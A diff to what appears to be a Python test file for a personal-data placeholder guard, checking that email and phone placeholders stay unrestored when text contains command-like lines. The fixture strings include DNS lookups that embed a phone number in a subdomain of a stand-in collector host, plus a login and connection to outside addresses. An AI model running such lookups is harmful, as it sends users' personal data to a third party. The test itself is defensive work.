@@ -25,7 +25,9 @@ PHONE = "415-555-0182"
 E, P = "<EMAIL_ADDRESS_1>", "<PHONE_NUMBER_1>"
 PROMPT = f"My phone is {PHONE}. I ran dig {PHONE}.x.example and opened https://x.example/?u={MAIL} today."
 
-KEPT = (f"Run dig {P}.collector.example now, or dig {P}.x.example.collector.example; then log in as "
+# (prose naming hosts: `Run dig ...` starts a command line since atk24a F18, a scope that sends, and then every tool
+# call of the answer keeps its placeholders: tests/guard/test_intro24.py)
+KEPT = (f"Look up {P}.collector.example now, or dig {P}.x.example.collector.example; then log in as "
         f"{E}@collector.example or connect to {P}@203.0.113.9\n")
 SAID = KEPT + f"You opened https://x.example/?u={E} and ran dig {P}.x.example. Your address is {E}, call {P}."
 WANT = KEPT + f"You opened https://x.example/?u={MAIL} and ran dig {PHONE}.x.example. Your address is {MAIL}, call " \
